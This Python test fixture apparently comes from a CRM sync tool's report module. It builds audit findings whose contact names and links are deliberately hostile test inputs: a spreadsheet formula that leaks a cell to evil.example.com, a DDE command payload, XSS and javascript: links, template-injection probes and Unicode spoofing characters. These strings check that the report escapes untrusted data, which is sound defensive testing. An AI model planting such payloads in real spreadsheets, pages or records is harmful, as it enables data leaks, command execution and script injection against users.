"""A few findings as rows, about people whose names nobody should trust."""

from __future__ import annotations

import json
from collections.abc import Mapping

from pdsync.model import Side, Subject, Value
from pdsync.report.rows import FindingHead, FindingRow, RecordRow, SubjectRow
from tests.report.build import HOSTILE

FORMULAS = (
    '=HYPERLINK("https://evil.example.com?"&A1,"Lucile")',
    "+33 1 23 45 67 89",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    " =1+1",
    "\uff1d1+1",
    "x\";=cmd|' /C calc'!A0",
)
MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</table></script><!--",
    "{{7*7}} ${7*7} `x`",
)
LETTERS = (
    "\u202eexe.gnp\u202c",
    "zero\u200bwidth\ufeff",
    "👩\u200d💻 Zoé",
    "محمد \u200fالأمين",
    "Nguyễn Thị Ánh",
    "\ud83d half an emoji",
    HOSTILE,
    "Trèslonguenomsansespace" * 2_000,
)
NAMES = (*FORMULAS, *MARKUP, *LETTERS)


def person(identifier: str, link: str | None = None, **details: Value) -> SubjectRow:
    """A person of Pipedrive, whose page is known."""
    where = f"https://acme.pipedrive.com/person/{identifier}" if link is None else link
    return SubjectRow(Subject(Side.PIPEDRIVE, "person", identifier), where, details)


def contact(identifier: str, link: str = "", **details: Value) -> SubjectRow:
    """A contact of Plezi."""
    return SubjectRow(Subject(Side.PLEZI, "contact", identifier), link, details)


def finding(
    head: FindingHead, *subjects: SubjectRow, hidden: Mapping[Side, tuple[str, ...]] | None = None
) -> FindingRow:
    """One finding of these subjects, and of ``hidden`` ones that come with their ids only."""
    more = hidden or {}
    ids = {
        side: (*(one.short_id for one in subjects if one.subject.side is side), *more.get(side, ()))
        for side in Side
    }
    records = sum(one.is_record for one in subjects) + sum(map(len, more.values()))
    return FindingRow(head, subjects, ids, records)


def head(code: str, severity: str = "warning", **texts: str) -> FindingHead:
    """What a finding says."""
    said = {"id": f"{code[:8]:0<16}", "field": "", "group": "", "message": "", "fix": "", "rule": "", **texts}
    return FindingHead(code=code, severity=severity, **said)


def finding_rows() -> list[FindingRow]:
    """In the order of ``build.audit_report``: a cluster, a pair of options, and names of all sorts."""
    shared = head(
        "duplicate-email",
        "blocking",
        message="2 persons share 1 email address in 2 spellings, which 1 contact in Plezi holds as well",
        fix="Merge them.",
        rule="R17",
        since="persisting",
        acknowledged=json.dumps({"who": "florent", "why": "=one mailbox" + HOSTILE, "until": "2026-12-31"}),
    )
    pair = head(
        "option-mismatch",
        field="Secteur",
        group=HOSTILE,
        message="'Sante' in Pipedrive and 'santé' in Plezi differ by accents; without a pair neither crosses",
        fix="Spell both alike, or pair them.",
        rule="R24",
    )
    address: dict[str, Value] = {"delivered": "Lucile.Riviere@example.com", "primary": True}
    return [
        finding(
            shared,
            person("1042", role="shares", first_name="Lucile", last_name="Rivière", addresses=[address]),
            person(
                "1043",
                role="shares",
                first_name="Anne-Charlotte-Bérengère",
                last_name="de La Rochefoucauld-Montbel d'Aigrefeuille-sur-Mer",
                addresses=[address | {"delivered": "lucile.riviere@example.com\u00a0", "problem": "a blank"}],
            ),
            contact(
                "5f00",
                "https://app.plezi.co/contacts/5f00",
                role="counterpart",
                addresses=[address | {"delivered": "lucile.riviere@example.com"}],
            ),
            hidden={Side.PIPEDRIVE: ("1044", "1045")},
        ),
        finding(
            pair,
            SubjectRow(
                Subject(Side.PIPEDRIVE, "option", "sector/43"),
                details={"label": "Sante", "records": 112, "problem": "spelling", "similarity": 1.0},
            ),
            SubjectRow(
                Subject(Side.PLEZI, "option", "plz_sector/santé"), details={"label": "santé", "records": 1}
            ),
        ),
        *(
            finding(
                head(
                    "missing-last-name",
                    id=f"{number:016x}",
                    field="last_name",
                    group="Newsletter (pied de page)",
                    message="This contact has no last name",
                    fix="Ask for it in the form.",
                    rule="R13, R14",
                    since="new" if number == 1 else "persisting",
                ),
                contact(f"5f{number:02}", _LINKS[number % len(_LINKS)], first_name=name, last_name=None),
            )
            for number, name in enumerate(NAMES, start=1)
        ),
    ]


_LINKS = (
    "",
    "https://app.plezi.co/contacts/5f01?tab=1&x=2",
    "javascript:alert(1)",
    'https://app.plezi.co/"onmouseover="alert(1)',
    "https://app.plezi.co@evil.example.com/",
)


def record_rows() -> list[RecordRow]:
    """The same findings, one row per subject."""
    return [RecordRow(one.head, subject) for one in finding_rows() for subject in one.subjects]
